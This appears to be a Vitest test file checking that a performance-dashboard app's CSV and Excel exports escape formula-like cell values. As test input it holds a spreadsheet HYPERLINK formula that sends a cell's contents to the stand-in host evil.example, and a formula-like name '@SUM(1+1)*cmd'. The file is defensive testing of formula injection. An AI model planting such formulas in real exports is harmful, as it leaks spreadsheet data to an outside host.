import { parse } from 'csv-parse/sync';
import { strFromU8, unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { testDatabases, type TestDatabase } from '../support/test-databases.ts';
import { startTestApp, type RunningApp } from '../support/test-app.ts';
import { apiClient, signIn, type ApiClient } from '../support/api-client.ts';
import { loadImprovementDemo } from '../../seeds/improvement/load.ts';
import { loadExcellenceDemoCycles } from '../../seeds/excellence/demo.ts';

const hyperlink = '=HYPERLINK("http://evil.example/?x="&B2,"Open")';
/** What a spreadsheet would run: a text cell that starts like a formula. */
const live = /^[=+\-@\t\r]/;

const cellsOf = (csv: string): string[][] => parse(csv, { bom: true }) as string[][];

describe.each(testDatabases())('exports never carry a live formula on $name', (target) => {
  let handle: TestDatabase;
  let running: RunningApp;
  let leader: ApiClient;
  let moi: ApiClient;
  /** The demo's closed and published cycle 3 of the excellence model. */
  let cycleId: string;

  beforeAll(async () => {
    handle = await target.create();
    running = await startTestApp(handle);
    await loadImprovementDemo(running.db);
    await loadExcellenceDemoCycles(running.db);
    cycleId = (
      await running.db
        .selectFrom('excellence_cycles')
        .select('id')
        .where('framework_code', '=', 'gov-excellence')
        .where('number', '=', 3)
        .executeTakeFirstOrThrow()
    ).id;
    leader = apiClient(running.url, await signIn(running.url, 'leader', 'leader-demo-2026'));
    moi = apiClient(running.url, await signIn(running.url, 'coord.moi', 'coord-demo-2026'));
  });
  afterAll(async () => {
    await running.close();
    await handle.close();
  });

  it("writes a coordinator's formula-like gap title as text in leadership's dashboard.csv", async () => {
    const gap = (await moi.gaps.list.query({ statuses: ['open', 'in_progress'], limit: 1 })).items[0]!;
    await moi.gaps.update.mutate({ id: gap.id, title: hyperlink, severity: 'critical' });
    const { csv } = await leader.dashboard.csv.query({ table: 'gaps' });
    const rows = cellsOf(csv);
    const row = rows.find((r) => r[0] === gap.code)!;
    expect(row[1]).toBe(`'${hyperlink}`);
    for (const cell of rows.flat()) expect(cell).not.toMatch(live);
  });

  it('rounds dashboard scores with the display rule and keeps them numbers', async () => {
    const summary = await leader.dashboard.summary.query({});
    const rows = cellsOf((await leader.dashboard.csv.query({ table: 'top' })).csv).slice(1);
    expect(rows.map((r) => Number(r[4]))).toEqual(
      summary.topEntities.map((e) => (Math.sign(e.score) * Math.round(Math.abs(e.score) * 10 + 1e-6)) / 10),
    );
  });

  it('neutralises formula-like names in the score CSV and the Excel workbook alike', async () => {
    // An entity named like a formula (names are data a programme office keys in).
    await running.db.updateTable('entities').set({ name_en: '@SUM(1+1)*cmd' }).where('id', '=', 'ent-moi').execute();
    const { csv } = await leader.excellence.results.scoresCsv.query({ cycleId });
    const rows = cellsOf(csv);
    expect(rows.filter((r) => r[1] === 'ent-moi').every((r) => r[3] === "'@SUM(1+1)*cmd")).toBe(true);
    for (const cell of rows.flat()) expect(cell).not.toMatch(live);
    const xlsx = await leader.excellence.results.scoresXlsx.query({ cycleId });
    const files = unzipSync(new Uint8Array(Buffer.from(xlsx.base64, 'base64')));
    const strings = strFromU8(files['xl/sharedStrings.xml']!);
    expect(strings).toContain("<t>'@SUM(1+1)*cmd</t>");
    expect([...strings.matchAll(/<t[^>]*>([^<]*)<\/t>/g)].map((m) => m[1]!)).not.toContainEqual(expect.stringMatching(live));
  });
});
